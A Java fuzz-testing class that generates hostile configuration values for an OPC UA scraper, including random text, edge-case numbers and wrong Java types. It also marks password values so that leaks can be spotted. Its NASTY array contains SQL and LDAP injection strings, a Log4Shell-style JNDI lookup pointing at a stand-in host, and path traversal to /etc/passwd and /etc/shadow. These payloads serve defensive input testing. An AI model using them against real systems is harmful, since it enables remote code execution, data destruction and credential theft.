package io.opcscraper.testing.fuzz;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;

import io.opcscraper.config.AdType;
import io.opcscraper.config.Property;

/**
 * Seeded generator of hostile property values (issue 6, "Bad input"): random text with control
 * characters, unicode and lone surrogates, huge, negative and non-finite numbers, empty values,
 * SQL and LDAP-filter injection, format strings, path traversal, malformed OPC UA endpoints and
 * node ids, wrong Java types, arrays, collections and maps, and values just outside a property's
 * min or max. Passwords get distinctive values ({@code pw-...-secret}), so a leak into a message
 * is recognisable. Everything comes from the one {@link Random}: the same seed gives the same
 * configurations, so a failing case can be reproduced with {@code -Dfuzz.seed=N}.
 */
public final class ConfigFuzzer {

    private static final String[] NASTY = { "", " ", "\t", "\n", "0", "-1", "1e309", "NaN", "-Infinity",
            "Infinity", "true", "TRUE", "yes", "null", "None", "auto", "'; DROP TABLE sensor_data; --",
            "\" OR 1=1 --", "Robert'); DROP TABLE students;--", "(kura.service.pid=*)", "(|(a=b)(c=d))", "*)(uid=*",
            "(kura.service.pid=x))(|(a=b)", "(&)", "((((((", ")", "(a=\\", "${jndi:ldap://evil/a}", "%s%n%x",
            "../../../../etc/passwd", "/etc/shadow", "opc.tcp://", "opc.tcp://:4840", "opc.tcp://h:0",
            "opc.tcp://h:99999", "opc.tcp://[::1", "opc.tcp://[::1]x", "opc.tcp://host name:4840",
            "opc.tcp://h:4840/\u0000", "jdbc:postgresql://h/db?password=x", "jdbc:postgresql:", "jdbc:mysql://h/db",
            "i=85", "ns=2;s=", "nsu=;i=1", "ns=99999999999999999999;i=1", "i=99999999999999999999999", "g=zz",
            "b=!!", "**", "/**", "Server/**", "\u0000", "\u202e\u0645\u0631\u062d\u0628\u0627", "\ud83d\ude00\ud83d\ude00",
            "\ud800", "\uffff", "Zürich °C µ", "日本語のタグ", "2147483648", "-2147483649", "9223372036854775808",
            "0x10", "1_000", " 42 ", "+7", "4.5", "1e3", "--1" };

    private final Random random;

    public ConfigFuzzer(Random random) {
        this.random = random;
    }

    /** The configuration with 1 to 5 properties replaced (or removed), sometimes an unknown key added. */
    public Map<String, Object> mutate(List<Property<?>> properties, Map<String, Object> config) {
        Map<String, Object> out = new HashMap<>(config);
        int count = 1 + this.random.nextInt(5);
        for (int i = 0; i < count; i++) {
            Property<?> p = properties.get(this.random.nextInt(properties.size()));
            if (this.random.nextInt(20) == 0) {
                out.remove(p.id());
            } else {
                out.put(p.id(), value(p));
            }
        }
        if (this.random.nextInt(10) == 0) {
            out.put("unknown." + this.random.nextInt(100), value(properties.get(0)));
        }
        if (this.random.nextInt(20) == 0) {
            out.put("kura.service.pid", text());
        }
        return out;
    }

    /** A hostile value for the property: of its type or not, in or out of its range and options. */
    public Object value(Property<?> p) {
        if (p.type() == AdType.PASSWORD) {
            // Distinctive, so a leak is recognisable; sometimes the wrong type.
            switch (this.random.nextInt(6)) {
            case 0:
                return 271828183;
            case 1:
                return ("pw-" + Long.toHexString(this.random.nextLong()) + "-secret").toCharArray();
            case 2:
                return new String[] { "pw-" + Long.toHexString(this.random.nextLong()) + "-secret" };
            default:
                return "pw-" + Long.toHexString(this.random.nextLong()) + text() + "-secret";
            }
        }
        switch (this.random.nextInt(14)) {
        case 0:
            return text();
        case 1:
            return NASTY[this.random.nextInt(NASTY.length)];
        case 2:
            return number();
        case 3:
            return String.valueOf(number());
        case 4:
            return this.random.nextBoolean();
        case 5:
            return new String[] { text(), text() };
        case 6:
            return List.of(text());
        case 7:
            return new int[] { this.random.nextInt() };
        case 8:
            return Map.of("k", text());
        case 9:
            return p.options().isEmpty() ? p.defaultAsString() + text()
                    : p.options().get(this.random.nextInt(p.options().size()));
        case 10:
            return "x".repeat(this.random.nextInt(5000)) + NASTY[this.random.nextInt(NASTY.length)];
        case 11:
            return p.min().map(m -> (Object) (m.longValue() - 1 - this.random.nextInt(3)))
                    .orElse(p.defaultValue() == null ? "" : p.defaultValue());
        case 12:
            return p.max().map(m -> (Object) (m.longValue() + this.random.nextInt(3)))
                    .orElse(new Object());
        default:
            return p.defaultValue() == null ? "" : p.defaultValue();
        }
    }

    /** A number at the edges: extremes of long, negative, huge double, NaN, -Infinity, short, BigInteger. */
    public Object number() {
        switch (this.random.nextInt(9)) {
        case 0:
            return Long.MAX_VALUE;
        case 1:
            return Long.MIN_VALUE;
        case 2:
            return -this.random.nextInt(1000);
        case 3:
            return this.random.nextDouble() * 1e12;
        case 4:
            return Double.NaN;
        case 5:
            return Double.NEGATIVE_INFINITY;
        case 6:
            return (short) this.random.nextInt();
        case 7:
            return new java.math.BigInteger("123456789012345678901234567890");
        default:
            return this.random.nextInt();
        }
    }

    /** Random text (usually under 30, sometimes up to 400 characters): control characters, BMP and supplementary code points, quotes and filter/SQL punctuation, ASCII. */
    public String text() {
        int length = this.random.nextInt(this.random.nextInt(10) == 0 ? 400 : 30);
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < length; i++) {
            switch (this.random.nextInt(6)) {
            case 0:
                b.appendCodePoint(this.random.nextInt(0x20));
                break;
            case 1:
                b.appendCodePoint(0x80 + this.random.nextInt(0x10000 - 0x80));
                break;
            case 2:
                b.appendCodePoint(0x10000 + this.random.nextInt(0x10FFFF - 0x10000));
                break;
            case 3:
                b.append("'\"();=*|&\\%$".charAt(this.random.nextInt(12)));
                break;
            default:
                b.append((char) (0x20 + this.random.nextInt(0x5f)));
            }
        }
        return b.toString();
    }

    /** The password values of a configuration as text, to look for in messages. */
    public List<String> secrets(Map<String, Object> config, List<Property<?>> properties) {
        List<String> out = new ArrayList<>();
        for (Property<?> p : properties) {
            Object raw = config.get(p.id());
            if (p.type() == AdType.PASSWORD && raw != null) {
                String s = raw instanceof char[] ? new String((char[]) raw)
                        : raw instanceof String[] ? ((String[]) raw)[0] : String.valueOf(raw);
                if (s.length() >= 4) {
                    out.add(s);
                }
            }
        }
        return out;
    }

    /** The configuration for a failure message, passwords masked. */
    public String describe(Map<String, Object> config, List<Property<?>> properties) {
        Map<String, String> shown = new LinkedHashMap<>();
        Function<Object, String> text = v -> v == null ? "null"
                : v.getClass().getSimpleName() + ":" + ConfigFuzz.show(v);
        config.forEach((k, v) -> shown.put(k, properties.stream()
                .anyMatch(p -> p.id().equals(k) && p.type() == AdType.PASSWORD) ? "(password)" : text.apply(v)));
        return shown.toString();
    }
}
